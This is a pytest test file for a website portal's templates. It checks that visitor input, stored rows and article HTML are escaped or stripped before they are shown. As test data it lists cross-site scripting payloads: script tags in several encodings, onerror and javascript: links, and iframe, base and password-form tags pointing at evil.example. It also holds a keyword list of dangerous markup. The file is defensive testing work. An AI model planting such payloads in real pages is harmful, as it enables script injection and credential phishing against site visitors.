"""What a visitor types never becomes markup, whatever a template does with it."""

from __future__ import annotations

import base64
from urllib.parse import quote

import pytest

from tests.builders.websites import SiteInMemory, open_portal
from tests.websites.visitor import Visitor
from websites.templating.environment import SiteEnvironment

SCRIPT = "<script>alert(1)</script>"
TYPED = {
    "plain": SCRIPT,
    "percent": quote(SCRIPT),
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "base64": base64.b64encode(SCRIPT.encode()).decode(),
    "nested": "<scr<script>ipt>alert(1)</script>",
    "attribute": '" onmouseover="alert(1)',
}
ARGUMENTS = {"truncate": ": 2000", "truncatewords": ": 2000", "slice": ": 0, 500", "split": ": ','", "date": ": '%Y'"}


@pytest.mark.parametrize("typed", TYPED.values(), ids=TYPED)
def test_no_filter_turns_what_was_typed_into_markup(visitor: Visitor, site: SiteInMemory, typed: str) -> None:
    open_portal(site.id)
    names = sorted(SiteEnvironment({}).filters)
    for name in names:
        source = "{% capture c %}{{ params.q }}{% endcapture %}" + '<i title="{{ params.q }}">{{ params.q | NAME }}'
        site.templates[name] = site.template(
            name, (source + "{{ c | NAME }}</i>").replace("NAME", name + ARGUMENTS.get(name, ""))
        )
        site.page(name, name, parent=site.home, template=name)
    shown = [answer.text for name in names if (answer := visitor.get(f"/{name}/?q={quote(typed)}")).status == 200]
    assert len(shown) > len(names) / 2  # the others want another kind of value
    for text in shown:
        assert "<script" not in text
        assert '" onmouseover' not in text.split(">")[0]


@pytest.mark.parametrize("place", ["title", "summary", "name"])
def test_words_of_rows_are_escaped(visitor: Visitor, site: SiteInMemory, place: str) -> None:
    open_portal(site.id)
    site.rows.put("adx_webpages", site.home, **{f"adx_{place}": SCRIPT})
    site.article("KA-1", SCRIPT, description=SCRIPT, keywords=f"{SCRIPT}, b")
    site.snippet("Home/Heading", SCRIPT)
    for path in ("/", "/knowledgebase/", "/knowledgebase/article/KA-1/", "/search/?q=script"):
        assert "<script" not in visitor.get(path).text


@pytest.mark.parametrize(
    "content",
    [
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=//evil.example></iframe>",
        "<style>*{display:none}</style>",
        '<p style="position:fixed">x</p>',
        "<form action=//evil.example><input name=password></form>",
        "<svg><script>alert(1)</script></svg>",
        "<base href=//evil.example/>",
        "<object data=x></object><embed src=x>",
        '<meta http-equiv="refresh" content="0">',
    ],
)
def test_html_of_articles_and_pages_is_harmless(visitor: Visitor, site: SiteInMemory, content: str) -> None:
    open_portal(site.id)
    site.article("KA-1", "One", content=content)
    site.page("About", "about", parent=site.home, adx_copy=content)
    words = "onerror javascript: <iframe <style style= <form <input <svg alert <base <object <embed <meta"
    for path in ("/knowledgebase/article/KA-1/", "/about/"):
        body = visitor.get(path).text.split("<h1>")[1].split("</main>")[0].lower()
        assert [word for word in words.split() if word in body] == []


@pytest.mark.parametrize("url", ["javascript:alert(1)", "data:text/html,x", " javascript:x", "vbscript:x"])
def test_links_that_lead_into_a_script_are_left_out(visitor: Visitor, site: SiteInMemory, url: str) -> None:
    open_portal(site.id)
    site.rows.put("adx_weblinks", "l", _adx_weblinksetid_value=site.links, adx_name="Evil", adx_externalurl=url)
    assert "Evil" not in visitor.get("/").text
